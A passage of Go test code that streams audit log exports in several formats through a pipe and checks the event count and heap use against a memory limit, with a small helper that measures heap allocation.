				done <- err
				return
			}
			_, err := io.Copy(io.Discard, read)
			done <- err
		}()
		n, err := s.log.Reader().Export(t.Context(), acme, audit.Filter{}, audit.NewEncoder(peak(write), format, "test", s.clock.Now()))
		write.Close()
		if err != nil || n != events {
			t.Errorf("%s: %d events, %v", format, n, err)
		}
		if err := <-done; err != nil {
			t.Errorf("%s: %v", format, err)
		}
	}
	if written < 5*limit {
		t.Errorf("only %d MB were written, which would fit into the limit", written>>20)
	}
}

// heap is what is in use, garbage taken out.
func heap() int64 {
	runtime.GC()
	var stats runtime.MemStats
	runtime.ReadMemStats(&stats)
	return int64(stats.HeapAlloc)
}
